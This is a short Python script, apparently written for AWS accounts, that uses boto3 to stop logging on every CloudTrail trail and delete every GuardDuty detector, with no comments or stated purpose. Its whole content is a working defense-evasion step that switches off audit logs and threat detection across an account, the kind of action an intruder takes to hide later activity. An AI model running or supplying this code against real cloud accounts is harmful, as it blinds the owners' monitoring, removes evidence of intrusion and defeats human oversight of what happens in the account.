import boto3

ct = boto3.client("cloudtrail")
for trail in ct.describe_trails()["trailList"]:
    ct.stop_logging(Name=trail["TrailARN"])

gd = boto3.client("guardduty")
for detector in gd.list_detectors()["DetectorIds"]:
    gd.delete_detector(DetectorId=detector)
